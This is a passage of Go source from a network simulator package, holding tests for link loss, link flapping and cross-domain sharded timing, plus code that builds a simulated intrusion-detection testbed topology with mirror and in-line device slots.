		var at simtime.Time
		sink.OnPacket = func(*packet.Packet) { at = sim.Now() }
		sim.Run()
		return at
	}
	full, degraded := arrivalAt(0), arrivalAt(0.25)
	if degraded <= full {
		t.Fatalf("derated link arrival %v not later than nominal %v", degraded, full)
	}
	// Serialization dominates here: quartering the bandwidth should
	// roughly quadruple the serialize time.
	if degraded < full*3 {
		t.Fatalf("derated arrival %v implausibly close to nominal %v", degraded, full)
	}
}

func TestLinkDeterministicLoss(t *testing.T) {
	sim := simtime.New(1)
	sink := NewSink("sink")
	src := NewHost(sim, "src", packet.IPv4(10, 0, 0, 1))
	l := NewLink(sim, src, sink, LinkConfig{})
	src.SetLink(l)

	l.SetLossEvery(3)
	accepted := 0
	for i := 0; i < 9; i++ {
		if src.Send(fpkt(64)) {
			accepted++
		}
	}
	if accepted != 6 {
		t.Fatalf("accepted %d of 9 with loss-every-3, want 6", accepted)
	}
	if got := l.InjectedDrops(); got != 3 {
		t.Fatalf("InjectedDrops = %d, want 3", got)
	}
	l.ClearImpairment()
	if !src.Send(fpkt(64)) {
		t.Fatal("cleared link refused packet")
	}
	// Drop accounting survives clearing.
	if got := l.InjectedDrops(); got != 3 {
		t.Fatalf("InjectedDrops after clear = %d, want 3", got)
	}
}

func TestHostSendWithoutLinkRefuses(t *testing.T) {
	sim := simtime.New(1)
	h := NewHost(sim, "orphan", packet.IPv4(10, 0, 0, 9))
	if h.HasLink() {
		t.Fatal("fresh host claims a link")
	}
	if h.Send(fpkt(64)) {
		t.Fatal("host without a link accepted a packet")
	}
	if h.SendFailed != 1 {
		t.Fatalf("SendFailed = %d, want 1", h.SendFailed)
	}
}

func TestTopologyValidate(t *testing.T) {
	sim := simtime.New(1)
	top := BuildTopology(sim, TopologyConfig{ClusterHosts: 2, ExternalHosts: 2})
	if err := top.Validate(); err != nil {
		t.Fatalf("freshly built topology invalid: %v", err)
	}
	if top.TrunkLink() == nil || top.ExtTrunkLink() == nil {
		t.Fatal("trunk accessors returned nil on a valid topology")
	}

	// An orphan host added out-of-band must be caught by name.
	orphan := NewHost(sim, "node99", ClusterAddr(99))
	top.Cluster = append(top.Cluster, orphan)
	err := top.Validate()
	if err == nil {
		t.Fatal("Validate missed unattached cluster host")
	}
	if !strings.Contains(err.Error(), "node99") {
		t.Fatalf("Validate error %q does not name the orphan host", err)
	}
}

func TestLinkFlapTimeline(t *testing.T) {
	// A link flapping down/up on a schedule drops exactly the packets
	// offered while down — the netsim half of the link-flap fault.
	sim := simtime.New(1)
	sink := NewSink("sink")
	src := NewHost(sim, "src", packet.IPv4(10, 0, 0, 1))
	l := NewLink(sim, src, sink, LinkConfig{})
	src.SetLink(l)

	// Down during [10ms, 20ms); offered every 5ms from 0 to 30ms.
	sim.MustSchedule(10*time.Millisecond, func() { l.SetDown(true) })
	sim.MustSchedule(20*time.Millisecond, func() { l.SetDown(false) })
	for i := 0; i <= 6; i++ {
		sim.MustSchedule(time.Duration(i)*5*time.Millisecond, func() { src.Send(fpkt(64)) })
	}
	sim.Run()
	// Offers at 10ms and 15ms fall in the down window (SetDown at 10ms
	// is scheduled before the send at the same instant).
	if got := l.InjectedDrops(); got != 2 {
		t.Fatalf("flap window dropped %d, want 2", got)
	}
	if sink.Count != 5 {
		t.Fatalf("sink received %d, want 5", sink.Count)
	}
}
