package netsim

import (
	"strings"
	"testing"
	"time"

	"repro/internal/packet"
	"repro/internal/simtime"
)

func newFabric2(t *testing.T) (*simtime.ShardedSim, *Fabric) {
	t.Helper()
	ss, err := simtime.NewSharded(1, 2)
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(ss.Close)
	return ss, NewFabric(ss)
}

func TestFabricRejectsZeroDelayCrossLink(t *testing.T) {
	ss, f := newFabric2(t)
	a := NewHost(ss.Domain(0), "a", packet.IPv4(10, 1, 1, 1))
	b := NewHost(ss.Domain(1), "b", packet.IPv4(10, 2, 1, 1))
	if err := f.Place(0, a); err != nil {
		t.Fatal(err)
	}
	if err := f.Place(1, b); err != nil {
		t.Fatal(err)
	}
	_, err := f.Link(a, b, LinkConfig{Name: "zero"})
	if err == nil {
		t.Fatal("zero-delay cross-domain link accepted")
	}
	if !strings.Contains(err.Error(), "lookahead") || !strings.Contains(err.Error(), "propagation") {
		t.Fatalf("rejection %q does not explain the lookahead constraint", err)
	}
	// Same config on a same-domain pair is fine (defaults apply).
	c := NewHost(ss.Domain(0), "c", packet.IPv4(10, 1, 1, 2))
	if err := f.Place(0, c); err != nil {
		t.Fatal(err)
	}
	if _, err := f.Link(a, c, LinkConfig{Name: "local"}); err != nil {
		t.Fatalf("same-domain zero-config link rejected: %v", err)
	}
}

func TestFabricPlacementErrors(t *testing.T) {
	ss, f := newFabric2(t)
	a := NewHost(ss.Domain(0), "a", 1)
	if err := f.Place(7, a); err == nil {
		t.Fatal("out-of-range domain accepted")
	}
	if err := f.Place(0, a); err != nil {
		t.Fatal(err)
	}
	if err := f.Place(0, a); err != nil {
		t.Fatalf("idempotent re-place rejected: %v", err)
	}
	if err := f.Place(1, a); err == nil {
		t.Fatal("re-placing endpoint in a different domain accepted")
	}
	b := NewHost(ss.Domain(1), "b", 2)
	if _, err := f.Link(a, b, LinkConfig{Propagation: time.Millisecond}); err == nil {
		t.Fatal("link to unplaced endpoint accepted")
	}
}

func TestCrossLinkImpairmentPanics(t *testing.T) {
	ss, f := newFabric2(t)
	a := NewHost(ss.Domain(0), "a", 1)
	b := NewHost(ss.Domain(1), "b", 2)
	if err := f.Place(0, a); err != nil {
		t.Fatal(err)
	}
	if err := f.Place(1, b); err != nil {
		t.Fatal(err)
	}
	l, err := f.Link(a, b, LinkConfig{Propagation: time.Millisecond})
	if err != nil {
		t.Fatal(err)
	}
	defer func() {
		r := recover()
		if r == nil {
			t.Fatal("SetDown on a cross-domain link did not panic")
		}
		if !strings.Contains(r.(string), "cross") {
			t.Fatalf("panic %q does not diagnose the cross-domain restriction", r)
		}
	}()
	l.SetDown(true)
}

// TestCrossLinkTimingMatchesLocal pins the core equivalence: a packet
// over a cross-domain link arrives at exactly the virtual time it would
// over an identical link inside one domain — sharding moves computation,
// never timing.
func TestCrossLinkTimingMatchesLocal(t *testing.T) {
	cfg := LinkConfig{
		Name:         "pair",
		BandwidthBps: 100e6,
		Propagation:  137 * time.Microsecond,
		BufferBytes:  64 << 10,
	}
	mkPacket := func() *packet.Packet {
		return &packet.Packet{Dst: 2, Payload: []byte("timing probe payload")}
	}

	// Reference: both hosts on one Sim.
	var localTimes []simtime.Time
	{
		sim := simtime.New(7)
		a := NewHost(sim, "a", 1)
		b := NewHost(sim, "b", 2)
		l := NewLink(sim, a, b, cfg)
		a.SetLink(l)
		b.SetLink(l)
		b.OnPacket = func(*packet.Packet) { localTimes = append(localTimes, sim.Now()) }
		for i := 0; i < 5; i++ {
			d := simtime.Time(i) * simtime.Time(40*time.Microsecond)
			sim.MustSchedule(1000+d, func() { a.Send(mkPacket()) })
		}
		sim.Run()
	}

	// Same wire, endpoints in different domains.
	var crossTimes []simtime.Time
	{
		ss, f := newFabric2(t)
		a := NewHost(ss.Domain(0), "a", 1)
		b := NewHost(ss.Domain(1), "b", 2)
		if err := f.Place(0, a); err != nil {
			t.Fatal(err)
		}
		if err := f.Place(1, b); err != nil {
			t.Fatal(err)
		}
		l, err := f.Link(a, b, cfg)
		if err != nil {
			t.Fatal(err)
		}
		a.SetLink(l)
		b.SetLink(l)
		if err := f.Finalize(); err != nil {
			t.Fatal(err)
		}
		bsim := ss.Domain(1)
		b.OnPacket = func(*packet.Packet) { crossTimes = append(crossTimes, bsim.Now()) }
		for i := 0; i < 5; i++ {
			d := simtime.Time(i) * simtime.Time(40*time.Microsecond)
			ss.Domain(0).MustSchedule(1000+d, func() { a.Send(mkPacket()) })
		}
		ss.Run()
	}

	if len(localTimes) != 5 || len(crossTimes) != 5 {
		t.Fatalf("deliveries local=%d cross=%d, want 5 each", len(localTimes), len(crossTimes))
	}
	for i := range localTimes {
		if localTimes[i] != crossTimes[i] {
			t.Fatalf("packet %d: local arrival %v, cross arrival %v", i, localTimes[i], crossTimes[i])
		}
	}
}

// TestMinimumLookaheadTorture ping-pongs a packet across a cross-domain
// link whose 1µs propagation IS the lookahead, so every reply lands in
// the very next window — the tightest schedule conservative sync admits.
func TestMinimumLookaheadTorture(t *testing.T) {
	run := func(workers int) (rounds int, last simtime.Time) {
		ss, err := simtime.NewSharded(3, 2)
		if err != nil {
			t.Fatal(err)
		}
		defer ss.Close()
		f := NewFabric(ss)
		a := NewHost(ss.Domain(0), "a", 1)
		b := NewHost(ss.Domain(1), "b", 2)
		if err := f.Place(0, a); err != nil {
			t.Fatal(err)
		}
		if err := f.Place(1, b); err != nil {
			t.Fatal(err)
		}
		l, err := f.Link(a, b, LinkConfig{
			Name: "tight", BandwidthBps: 1e9, Propagation: time.Microsecond,
		})
		if err != nil {
			t.Fatal(err)
		}
		a.SetLink(l)
		b.SetLink(l)
		if err := f.Finalize(); err != nil {
			t.Fatal(err)
		}
		if got := ss.Lookahead(); got != simtime.Time(time.Microsecond) {
			t.Fatalf("lookahead %v, want 1µs", got)
		}
		const wantRounds = 400
		bsim, asim := ss.Domain(1), ss.Domain(0)
		b.OnPacket = func(*packet.Packet) {
			rounds++
			last = bsim.Now()
			if rounds < wantRounds {
				b.Send(&packet.Packet{Dst: 1, Payload: []byte("pong")})
			}
		}
		a.OnPacket = func(*packet.Packet) {
			a.Send(&packet.Packet{Dst: 2, Payload: []byte("ping")})
		}
		ss.SetWorkers(workers)
		asim.MustSchedule(100, func() { a.Send(&packet.Packet{Dst: 2, Payload: []byte("ping")}) })
		ss.Run()
		if rounds != wantRounds {
			t.Fatalf("workers=%d: %d rounds, want %d", workers, rounds, wantRounds)
		}
		return rounds, last
	}
	_, serialLast := run(1)
	_, parallelLast := run(2)
	if serialLast != parallelLast {
		t.Fatalf("final round time differs: serial %v, 2 workers %v", serialLast, parallelLast)
	}
}

func TestBuildLargeTopologyValidatesDomains(t *testing.T) {
	ss, err := simtime.NewSharded(1, 3)
	if err != nil {
		t.Fatal(err)
	}
	defer ss.Close()
	if _, err := BuildLargeTopology(ss, LargeConfig{Segments: 4}); err == nil {
		t.Fatal("mismatched domain count accepted")
	}
	if _, err := BuildLargeTopology(ss, LargeConfig{Segments: 2, HostsPerSegment: 5000}); err == nil {
		t.Fatal("oversized segment accepted")
	}
}

func TestLargeTopologyEndToEnd(t *testing.T) {
	const segments = 3
	run := func(workers int) (extDeliveries, crossDeliveries int, last simtime.Time) {
		ss, err := simtime.NewSharded(11, segments+1)
		if err != nil {
			t.Fatal(err)
		}
		defer ss.Close()
		top, err := BuildLargeTopology(ss, LargeConfig{Segments: segments, HostsPerSegment: 4, ExternalHosts: 2})
		if err != nil {
			t.Fatal(err)
		}
		// Every host echoes nothing; count deliveries into segment 1.
		for _, h := range top.Segment[1] {
			h := h
			h.OnPacket = func(*packet.Packet) {
				extDeliveries++
				last = top.SegmentSim(1).Now()
			}
		}
		for _, h := range top.Segment[2] {
			h.OnPacket = func(*packet.Packet) { crossDeliveries++ }
		}
		ss.SetWorkers(workers)
		// External host sends into segment 1 (crosses ext->border->dist->leaf).
		ext := top.External[0]
		core := top.CoreSim()
		for i := 0; i < 6; i++ {
			dst := top.Segment[1][i%4].Addr()
			i := i
			core.MustSchedule(simtime.Time(1+i)*simtime.Time(time.Millisecond), func() {
				ext.Send(&packet.Packet{Dst: dst, Payload: []byte("hello from outside")})
			})
			_ = i
		}
		// Segment 0 host sends to segment 2 host (leaf->dist->leaf, two hops).
		src := top.Segment[0][0]
		s0 := top.SegmentSim(0)
		for i := 0; i < 4; i++ {
			dst := top.Segment[2][i%4].Addr()
			s0.MustSchedule(simtime.Time(2+i)*simtime.Time(time.Millisecond), func() {
				src.Send(&packet.Packet{Dst: dst, Payload: []byte("east-west")})
			})
		}
		ss.Run()
		return
	}
	e1, c1, t1 := run(1)
	if e1 != 6 || c1 != 4 {
		t.Fatalf("deliveries ext=%d cross=%d, want 6 and 4", e1, c1)
	}
	e2, c2, t2 := run(4)
	if e1 != e2 || c1 != c2 || t1 != t2 {
		t.Fatalf("parallel run diverged: ext %d vs %d, cross %d vs %d, last %v vs %v", e1, e2, c1, c2, t1, t2)
	}
}

func TestLargeTopologyMirrorTapsSegmentTraffic(t *testing.T) {
	ss, err := simtime.NewSharded(5, 3)
	if err != nil {
		t.Fatal(err)
	}
	defer ss.Close()
	top, err := BuildLargeTopology(ss, LargeConfig{Segments: 2, HostsPerSegment: 3, ExternalHosts: 1})
	if err != nil {
		t.Fatal(err)
	}
	sink := NewSink("tap0")
	if _, err := top.AttachLeafMirror(0, sink, LinkConfig{}); err != nil {
		t.Fatal(err)
	}
	s0 := top.SegmentSim(0)
	src, dst := top.Segment[0][0], top.Segment[0][1]
	for i := 0; i < 5; i++ {
		s0.MustSchedule(simtime.Time(1+i)*simtime.Time(time.Millisecond), func() {
			src.Send(&packet.Packet{Dst: dst.Addr(), Payload: []byte("intra-segment")})
		})
	}
	ss.Run()
	if dst.Received != 5 {
		t.Fatalf("dst received %d, want 5", dst.Received)
	}
	if sink.Count != 5 {
		t.Fatalf("mirror sink saw %d packets, want 5", sink.Count)
	}
}
