package netsim

import (
	"fmt"
	"time"

	"repro/internal/obs"
	"repro/internal/packet"
	"repro/internal/simtime"
)

// Topology is the canonical testbed layout the evaluation runs on,
// mirroring Figure 1 of the paper: an "Internet" side behind a border
// router, a protected LAN of cluster hosts, and attachment points for an
// IDS (a SPAN mirror on the LAN switch, or an in-line slot between router
// and switch).
//
//	ext hosts ── extSwitch ── borderRouter ──[inline slot]── lanSwitch ── cluster hosts
//	                                                             │
//	                                                           mirror
type Topology struct {
	Sim          *simtime.Sim
	Border       *Router
	ExtSwitch    *Switch
	LanSwitch    *Switch
	External     []*Host
	Cluster      []*Host
	routerToLan  *Link
	extTrunk     *Link
	lanPrefix    packet.Addr
	nextHostLink LinkConfig
	obsReg       *obs.Registry
}

// TopologyConfig parameterizes BuildTopology.
type TopologyConfig struct {
	// ClusterHosts is the number of protected LAN hosts (default 8).
	ClusterHosts int
	// ExternalHosts is the number of Internet-side hosts (default 4).
	ExternalHosts int
	// HostLink configures each host's access link (defaults per NewLink).
	HostLink LinkConfig
	// BackboneLink configures router<->switch trunks (default 10 Gb/s).
	BackboneLink LinkConfig
	// SwitchLatency is the LAN switch forwarding latency (default 5µs).
	SwitchLatency time.Duration
	// RouterLatency is the border router forwarding latency (default 20µs).
	RouterLatency time.Duration
}

// LanPrefix is the protected network (10.1.0.0/16).
var LanPrefix = packet.IPv4(10, 1, 0, 0)

// ExtPrefix is the external network (203.0.0.0/16).
var ExtPrefix = packet.IPv4(203, 0, 0, 0)

// ClusterAddr returns the address of cluster host i (0-based).
func ClusterAddr(i int) packet.Addr {
	return LanPrefix + packet.Addr(i/250+1)<<8 + packet.Addr(i%250+1)
}

// ExternalAddr returns the address of external host i (0-based).
func ExternalAddr(i int) packet.Addr {
	return ExtPrefix + packet.Addr(i/250+1)<<8 + packet.Addr(i%250+1)
}

// BuildTopology wires the canonical testbed.
func BuildTopology(sim *simtime.Sim, cfg TopologyConfig) *Topology {
	if cfg.ClusterHosts <= 0 {
		cfg.ClusterHosts = 8
	}
	if cfg.ExternalHosts <= 0 {
		cfg.ExternalHosts = 4
	}
	if cfg.BackboneLink.BandwidthBps <= 0 {
		cfg.BackboneLink.BandwidthBps = 10e9
	}
	if cfg.BackboneLink.BufferBytes <= 0 {
		cfg.BackboneLink.BufferBytes = 4 << 20
	}
	if cfg.SwitchLatency == 0 {
		cfg.SwitchLatency = 5 * time.Microsecond
	}
	if cfg.RouterLatency == 0 {
		cfg.RouterLatency = 20 * time.Microsecond
	}

	t := &Topology{
		Sim:          sim,
		Border:       NewRouter(sim, "border-router", cfg.RouterLatency),
		ExtSwitch:    NewSwitch(sim, "ext-switch", cfg.SwitchLatency),
		LanSwitch:    NewSwitch(sim, "lan-switch", cfg.SwitchLatency),
		lanPrefix:    LanPrefix,
		nextHostLink: cfg.HostLink,
	}

	extTrunk := cfg.BackboneLink
	extTrunk.Name = "ext-trunk"
	lanTrunk := cfg.BackboneLink
	lanTrunk.Name = "lan-trunk"

	extLink := NewLink(sim, t.ExtSwitch, t.Border, extTrunk)
	t.ExtSwitch.SetUplink(extLink)
	lanLink := NewLink(sim, t.Border, t.LanSwitch, lanTrunk)
	t.LanSwitch.SetUplink(lanLink)
	t.routerToLan = lanLink
	t.extTrunk = extLink

	t.Border.AddRoute(LanPrefix, 16, lanLink)
	t.Border.AddRoute(ExtPrefix, 16, extLink)

	for i := 0; i < cfg.ClusterHosts; i++ {
		h := NewHost(sim, fmt.Sprintf("node%02d", i), ClusterAddr(i))
		t.LanSwitch.Connect(h, cfg.HostLink)
		t.Cluster = append(t.Cluster, h)
	}
	for i := 0; i < cfg.ExternalHosts; i++ {
		h := NewHost(sim, fmt.Sprintf("ext%02d", i), ExternalAddr(i))
		t.ExtSwitch.Connect(h, cfg.HostLink)
		t.External = append(t.External, h)
	}
	return t
}

// Validate checks the wiring invariants a built topology must satisfy
// before traffic runs: every host attached to a link, both trunks
// present, and both switches holding an uplink. It exists so
// misconfiguration surfaces as a construction-time error from the
// harness that assembled the topology instead of a mid-simulation
// failure deep in a Send path.
func (t *Topology) Validate() error {
	if t.routerToLan == nil {
		return fmt.Errorf("netsim: topology %s: missing router<->LAN trunk", t.LanSwitch.Name())
	}
	if t.extTrunk == nil {
		return fmt.Errorf("netsim: topology %s: missing external trunk", t.ExtSwitch.Name())
	}
	for _, h := range t.Cluster {
		if h.link == nil {
			return fmt.Errorf("netsim: cluster host %q has no link", h.Name())
		}
	}
	for _, h := range t.External {
		if h.link == nil {
			return fmt.Errorf("netsim: external host %q has no link", h.Name())
		}
	}
	return nil
}

// TrunkLink returns the router<->LAN trunk (the inline-north link after
// InsertInline) — the backbone segment fault scenarios target as
// "link:lan-trunk".
func (t *Topology) TrunkLink() *Link { return t.routerToLan }

// ExtTrunkLink returns the external switch<->router trunk, the segment
// fault scenarios target as "link:ext-trunk".
func (t *Topology) ExtTrunkLink() *Link { return t.extTrunk }

// Instrument wires telemetry for the topology's backbone: both trunk
// links and both switches. Links attached later (SPAN mirror, inline
// splice) pick the registry up automatically. A nil registry disables
// telemetry at zero cost; call before the simulation runs.
func (t *Topology) Instrument(reg *obs.Registry) {
	if reg == nil {
		return
	}
	t.obsReg = reg
	t.extTrunk.Instrument(reg)
	t.routerToLan.Instrument(reg)
	t.ExtSwitch.Instrument(reg)
	t.LanSwitch.Instrument(reg)
}

// AddClusterHost adds another protected host to the LAN and returns it.
func (t *Topology) AddClusterHost() *Host {
	i := len(t.Cluster)
	h := NewHost(t.Sim, fmt.Sprintf("node%02d", i), ClusterAddr(i))
	t.LanSwitch.Connect(h, t.nextHostLink)
	t.Cluster = append(t.Cluster, h)
	return h
}

// AttachMirror connects a passive sink to the LAN switch SPAN port over a
// link with the given config, returning the link.
func (t *Topology) AttachMirror(sink Endpoint, cfg LinkConfig) *Link {
	if cfg.Name == "" {
		cfg.Name = "span"
	}
	l := NewLink(t.Sim, t.LanSwitch, sink, cfg)
	l.Instrument(t.obsReg)
	t.LanSwitch.SetMirror(l)
	return l
}

// InsertInline splices an in-line device into the router<->LAN trunk:
// router ── d ── lanSwitch. All north-south traffic then traverses d. The
// device must not already be wired.
func (t *Topology) InsertInline(d *InlineDevice, cfg LinkConfig) {
	if cfg.BandwidthBps <= 0 {
		cfg.BandwidthBps = t.routerToLan.BandwidthBps
	}
	if cfg.BufferBytes <= 0 {
		cfg.BufferBytes = t.routerToLan.BufferBytes
	}
	northCfg := cfg
	northCfg.Name = "router<->" + d.Name()
	southCfg := cfg
	southCfg.Name = d.Name() + "<->lan"

	north := NewLink(t.Sim, t.Border, d, northCfg)
	south := NewLink(t.Sim, d, t.LanSwitch, southCfg)
	d.SetLinks(north, south)
	north.Instrument(t.obsReg)
	south.Instrument(t.obsReg)
	d.Instrument(t.obsReg)

	// Repoint router and LAN switch routes at the device.
	t.Border.rerouteLanVia(north, t.lanPrefix)
	t.LanSwitch.SetUplink(south)
	t.routerToLan = north
}

// rerouteLanVia replaces the LAN route with a route via the given link.
func (r *Router) rerouteLanVia(l *Link, lanPrefix packet.Addr) {
	for i := range r.routes {
		if r.routes[i].prefix == lanPrefix {
			r.routes[i].link = l
			return
		}
	}
	r.AddRoute(lanPrefix, 16, l)
}
