package netsim

import (
	"fmt"
	"time"

	"repro/internal/simtime"
)

// Fabric wires a topology across the fixed event domains of a
// simtime.ShardedSim. Every endpoint is placed in exactly one domain;
// links between same-domain endpoints are ordinary Links on that
// domain's Sim, while links between domains become cross-domain links:
// each direction is driven by the sending endpoint's Sim (all queue and
// stats state stays single-threaded in the sender's domain) and far-side
// delivery is handed to the coordinator at Send time.
//
// The fabric also derives the conservative lookahead: the minimum
// propagation delay over all cross-domain links. A packet sent at time t
// arrives no earlier than t + propagation >= t + lookahead, so every
// cross-domain delivery lands at or after the end of the window that
// produced it — the invariant ShardedSim's barrier synchronization
// depends on. That is why a zero-delay cross-domain link is rejected
// outright: it would leave no safe window at all.
type Fabric struct {
	ss         *simtime.ShardedSim
	dom        map[Endpoint]int
	minProp    time.Duration
	crossLinks int
	finalized  bool
}

// NewFabric creates a fabric over the coordinator's domains.
func NewFabric(ss *simtime.ShardedSim) *Fabric {
	return &Fabric{ss: ss, dom: make(map[Endpoint]int)}
}

// Coordinator returns the underlying ShardedSim.
func (f *Fabric) Coordinator() *simtime.ShardedSim { return f.ss }

// Sim returns the Sim for one domain — the clock every component placed
// there must be built against.
func (f *Fabric) Sim(dom int) *simtime.Sim { return f.ss.Domain(dom) }

// Place assigns an endpoint to an event domain. Placement is permanent:
// the domain determines which Sim drives the endpoint's events, and
// moving it would tear state across goroutines.
func (f *Fabric) Place(dom int, e Endpoint) error {
	if dom < 0 || dom >= f.ss.Domains() {
		return fmt.Errorf("netsim: domain %d out of range [0,%d)", dom, f.ss.Domains())
	}
	if e == nil {
		return fmt.Errorf("netsim: cannot place nil endpoint")
	}
	if prev, ok := f.dom[e]; ok && prev != dom {
		return fmt.Errorf("netsim: endpoint %q already placed in domain %d", e.Name(), prev)
	}
	f.dom[e] = dom
	return nil
}

// DomainOf reports where an endpoint was placed.
func (f *Fabric) DomainOf(e Endpoint) (int, bool) {
	d, ok := f.dom[e]
	return d, ok
}

// Link connects two placed endpoints. Same-domain pairs get an ordinary
// link on the shared Sim. Cross-domain pairs get a domain-aware link and
// must carry an explicit positive Propagation — the delay becomes part
// of the fabric's lookahead, and a zero (or defaulted) delay cannot
// bound a conservative window.
func (f *Fabric) Link(a, b Endpoint, cfg LinkConfig) (*Link, error) {
	da, ok := f.dom[a]
	if !ok {
		return nil, fmt.Errorf("netsim: endpoint %q not placed in any domain", a.Name())
	}
	db, ok := f.dom[b]
	if !ok {
		return nil, fmt.Errorf("netsim: endpoint %q not placed in any domain", b.Name())
	}
	if da == db {
		return NewLink(f.ss.Domain(da), a, b, cfg), nil
	}
	if cfg.Propagation <= 0 {
		return nil, fmt.Errorf("netsim: cross-domain link %q (d%d<->d%d) needs an explicit positive propagation delay: conservative parallel simulation derives its lookahead window from the minimum cross-domain delay, and a zero-delay edge admits no window", cfg.Name, da, db)
	}
	l := NewLink(f.ss.Domain(da), a, b, cfg)
	l.cross = true
	// Each direction is driven by its sender: l.b delivers to b, so its
	// Send path runs in a's domain; symmetrically for l.a.
	l.b.sim = f.ss.Domain(da)
	l.a.sim = f.ss.Domain(db)
	l.b.post = func(at simtime.Time, fn func()) { f.ss.Post(da, db, at, fn) }
	l.a.post = func(at simtime.Time, fn func()) { f.ss.Post(db, da, at, fn) }
	if f.crossLinks == 0 || l.Propagation < f.minProp {
		f.minProp = l.Propagation
	}
	f.crossLinks++
	return l, nil
}

// CrossLinks returns how many cross-domain links exist.
func (f *Fabric) CrossLinks() int { return f.crossLinks }

// Finalize computes and installs the lookahead (the minimum cross-domain
// propagation delay). Call it after all links are wired and before the
// coordinator runs. A fabric with no cross-domain links places no bound
// on the window; domains never interact, so windows are effectively the
// whole run.
func (f *Fabric) Finalize() error {
	f.finalized = true
	if f.crossLinks == 0 {
		// Independent domains: any window works; pick one huge enough
		// that the run completes in a single window per idle gap.
		return f.ss.SetLookahead(1 << 61)
	}
	return f.ss.SetLookahead(simtime.Time(f.minProp))
}
