package netsim

import (
	"fmt"
	"time"

	"repro/internal/packet"
	"repro/internal/simtime"
)

// LargeTopology is the at-scale variant of the segmented testbed: the
// same shape as SegmentedTopology — external hosts behind a border
// router, a distribution switch fanning out to leaf switches, each leaf
// with its own SPAN port — but partitioned across the event domains of a
// ShardedSim so tens of thousands of hosts simulate on multiple cores.
//
// Domain assignment is fixed by the topology: domain 0 holds the
// external switch, border router, and distribution switch; domain i+1
// holds leaf i with all its hosts and whatever sensors tap its mirror.
// The only cross-domain edges are the dist<->leaf trunks, so the
// lookahead is the trunk propagation delay.
//
//	ext hosts ── ext ── border ── dist ──┬── leaf0 ── hosts, mirror0   (domain 1)
//	        (domain 0)                   ├── leaf1 ── hosts, mirror1   (domain 2)
//	                                     └── ...
type LargeTopology struct {
	Fabric *Fabric
	Border *Router
	Ext    *Switch
	Dist   *Switch
	Leaves []*Switch
	// Trunks[i] is the cross-domain dist<->leaf i link.
	Trunks   []*Link
	External []*Host
	// Segment[i] holds leaf i's hosts.
	Segment [][]*Host
	Hosts   int
}

// LargeConfig parameterizes BuildLargeTopology.
type LargeConfig struct {
	// Segments is the number of leaf switches (default 8). Must equal
	// the coordinator's domain count minus one.
	Segments int
	// HostsPerSegment (default 40, max 4096).
	HostsPerSegment int
	// ExternalHosts (default 4).
	ExternalHosts int
	// HostLink configures host access links (NewLink defaults apply).
	HostLink LinkConfig
	// BackboneLink configures trunks. Its propagation delay becomes the
	// conservative lookahead; default 200µs (a metro-scale distribution
	// span), deliberately larger than the 50µs access default so the
	// parallel windows stay wide enough to batch useful work.
	BackboneLink LinkConfig
}

// LargeAddr returns the address of host h in segment s: 10.(s+1).hi.lo
// with h split across the low two octets, so a segment scales to
// thousands of hosts without leaving its /16.
func LargeAddr(s, h int) packet.Addr {
	return packet.IPv4(10, byte(s+1), byte(h>>8), byte(h&0xff))
}

// BuildLargeTopology wires the at-scale testbed across the coordinator's
// domains (which must number Segments+1) and finalizes the fabric's
// lookahead. The returned topology is ready to run.
func BuildLargeTopology(ss *simtime.ShardedSim, cfg LargeConfig) (*LargeTopology, error) {
	if cfg.Segments <= 0 {
		cfg.Segments = 8
	}
	if cfg.HostsPerSegment <= 0 {
		cfg.HostsPerSegment = 40
	}
	if cfg.ExternalHosts <= 0 {
		cfg.ExternalHosts = 4
	}
	if cfg.Segments > 254 {
		return nil, fmt.Errorf("netsim: %d segments exceeds the 254 the addressing plan carries", cfg.Segments)
	}
	if cfg.HostsPerSegment > 4096 {
		return nil, fmt.Errorf("netsim: %d hosts per segment exceeds the 4096 a leaf switch realistically fans out", cfg.HostsPerSegment)
	}
	if got := ss.Domains(); got != cfg.Segments+1 {
		return nil, fmt.Errorf("netsim: coordinator has %d domains, topology needs %d (one per segment + border/external)", got, cfg.Segments+1)
	}
	if cfg.BackboneLink.BandwidthBps <= 0 {
		cfg.BackboneLink.BandwidthBps = 10e9
	}
	if cfg.BackboneLink.BufferBytes <= 0 {
		cfg.BackboneLink.BufferBytes = 4 << 20
	}
	if cfg.BackboneLink.Propagation <= 0 {
		cfg.BackboneLink.Propagation = 200 * time.Microsecond
	}

	f := NewFabric(ss)
	core := ss.Domain(0)
	t := &LargeTopology{
		Fabric: f,
		Border: NewRouter(core, "border-router", 20*time.Microsecond),
		Ext:    NewSwitch(core, "ext-switch", 5*time.Microsecond),
		Dist:   NewSwitch(core, "dist-switch", 5*time.Microsecond),
	}
	for _, e := range []Endpoint{t.Border, t.Ext, t.Dist} {
		if err := f.Place(0, e); err != nil {
			return nil, err
		}
	}

	extTrunk := cfg.BackboneLink
	extTrunk.Name = "ext-trunk"
	extLink, err := f.Link(t.Ext, t.Border, extTrunk)
	if err != nil {
		return nil, err
	}
	t.Ext.SetUplink(extLink)

	distTrunk := cfg.BackboneLink
	distTrunk.Name = "dist-trunk"
	distLink, err := f.Link(t.Border, t.Dist, distTrunk)
	if err != nil {
		return nil, err
	}
	t.Dist.SetUplink(distLink)
	t.Border.AddRoute(packet.IPv4(10, 0, 0, 0), 8, distLink)
	t.Border.AddRoute(ExtPrefix, 16, extLink)

	for s := 0; s < cfg.Segments; s++ {
		dom := s + 1
		leafSim := ss.Domain(dom)
		leaf := NewSwitch(leafSim, fmt.Sprintf("leaf%03d", s), 5*time.Microsecond)
		if err := f.Place(dom, leaf); err != nil {
			return nil, err
		}
		leafTrunk := cfg.BackboneLink
		leafTrunk.Name = fmt.Sprintf("leaf%03d-trunk", s)
		up, err := f.Link(t.Dist, leaf, leafTrunk)
		if err != nil {
			return nil, err
		}
		leaf.SetUplink(up)
		segment := make([]*Host, 0, cfg.HostsPerSegment)
		for h := 0; h < cfg.HostsPerSegment; h++ {
			host := NewHost(leafSim, fmt.Sprintf("s%03dn%04d", s, h), LargeAddr(s, h))
			leaf.Connect(host, cfg.HostLink)
			segment = append(segment, host)
		}
		// The distribution switch routes the segment's whole /16 via one
		// table entry per host (exact-match table); all of them point at
		// the same trunk.
		for _, host := range segment {
			t.Dist.AddRoute(host.Addr(), up)
		}
		t.Leaves = append(t.Leaves, leaf)
		t.Trunks = append(t.Trunks, up)
		t.Segment = append(t.Segment, segment)
		t.Hosts += len(segment)
	}

	for i := 0; i < cfg.ExternalHosts; i++ {
		h := NewHost(core, fmt.Sprintf("ext%02d", i), ExternalAddr(i))
		t.Ext.Connect(h, cfg.HostLink)
